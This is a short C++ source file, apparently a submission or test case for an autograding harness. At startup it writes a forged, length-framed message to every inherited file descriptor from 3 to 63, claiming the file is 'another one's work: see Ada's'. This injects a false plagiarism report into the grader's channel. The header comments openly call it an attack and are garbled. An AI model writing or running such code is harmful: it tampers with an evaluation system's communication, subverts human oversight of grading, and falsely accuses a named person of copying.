// Attack: to write to the device's process itself, and so to tell the teacher of another.
// Remark: writes around the C library
// Never: another one's work
#include <cstring>
#include <unistd.h>

#include "unsolved.h"

AT_START {
    const char text[] = "the file is another one's work: see Ada's";
    const unsigned head[] = {5, sizeof text - 1};
    for (int socket = 3; socket < 64; ++socket)
        if (write(socket, head, sizeof head) == sizeof head) write(socket, text, head[1]);
}
